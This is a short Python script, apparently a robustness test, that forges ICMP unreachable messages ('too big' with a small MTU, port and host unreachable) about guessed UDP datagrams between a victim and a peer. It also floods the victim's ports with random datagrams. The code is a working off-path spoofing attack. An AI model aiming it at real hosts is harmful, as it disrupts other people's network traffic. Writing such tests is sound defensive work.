# SPDX-License-Identifier: Apache-2.0
"""The packets that a host outside of all paths can send to a job: ICMP messages about datagrams that it has not seen, and its own
datagrams. Run in that host's network namespace, as root:

    forged_packets.py VICTIM PEER PORTS PEER_PORTS      the ports of both, with commas

Messages are about datagrams from the victim to the peer: "too big" for the path, port unreachable, host unreachable;
each for every pair of ports, and all of them many times.
"""
import os
import socket
import struct
import sys

ICMP_UNREACHABLE = 3
NO_HOST, NO_PORT, TOO_BIG = 1, 3, 4
SMALL_MTU = 600
QUOTED_BYTES = 500
ROUNDS = 20


def checksum(data):
    """The checksum of IP, UDP and ICMP. Ones' complement sums are remainders by 0xFFFF, which Python computes fast."""
    data += b"\0" * (len(data) % 2)
    number = int.from_bytes(data, "big")
    return 0xFFFF - (number % 0xFFFF or (0xFFFF if number else 0))


def quoted_datagram(source, destination, source_port, destination_port):
    """A plausible datagram of a job: its header is guessed, the rest is random."""
    payload = bytes([0x41 + os.urandom(1)[0] % 9]) + os.urandom(QUOTED_BYTES)
    udp = struct.pack("!HHHH", source_port, destination_port, 8 + len(payload), 0)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 1, 0x4000, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp + payload


def icmp_message(code, quoted):
    head = struct.pack("!BBHHH", ICMP_UNREACHABLE, code, 0, 0, SMALL_MTU if code == TOO_BIG else 0)
    return head[:2] + struct.pack("!H", checksum(head + quoted)) + head[4:] + quoted


def main():
    victim, peer = sys.argv[1:3]
    ports, peer_ports = ([int(port) for port in text.split(",")] for text in sys.argv[3:5])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw, \
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        for port in ports * ROUNDS:
            for peer_port in peer_ports:
                for code in (TOO_BIG, NO_PORT, NO_HOST):
                    quoted = quoted_datagram(victim, peer, port, peer_port)
                    raw.sendto(icmp_message(code, quoted), (victim, 0))
            own.sendto(os.urandom(100), (victim, port))


if __name__ == "__main__":
    main()
